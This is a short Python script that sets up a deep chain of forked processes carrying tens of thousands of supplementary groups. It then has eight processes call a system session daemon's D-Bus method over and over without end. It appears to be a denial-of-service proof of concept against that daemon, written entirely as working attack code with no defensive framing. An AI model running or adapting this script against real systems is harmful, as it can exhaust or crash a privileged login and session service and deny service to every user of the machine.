"""A long line of programs, each below the one before and with as many groups as the kernel allows, of which the last asks the daemon again and
again, eight times at once. long_line.py UID LENGTH METHOD ARGUMENT"""

import os
import subprocess
import sys

uid, length, call = int(sys.argv[1]), int(sys.argv[2]), (sys.argv[3], "s", sys.argv[4])
# As whoever may hand out a range of groups can have them, in a namespace of theirs.
os.setgroups(range(100000, 165536))
os.setgid(uid)
os.setuid(uid)
for _ in range(length):
    if os.fork():
        os.wait()
        os._exit(0)
manager = ("org.authflow.sessiond1", "/org/authflow/sessiond1", "org.authflow.sessiond1.Manager")
print("asking", flush=True)
for _ in range(7):
    if not os.fork():
        break
while True:
    subprocess.run(["busctl", "--system", "call", *manager, *call], check=False)
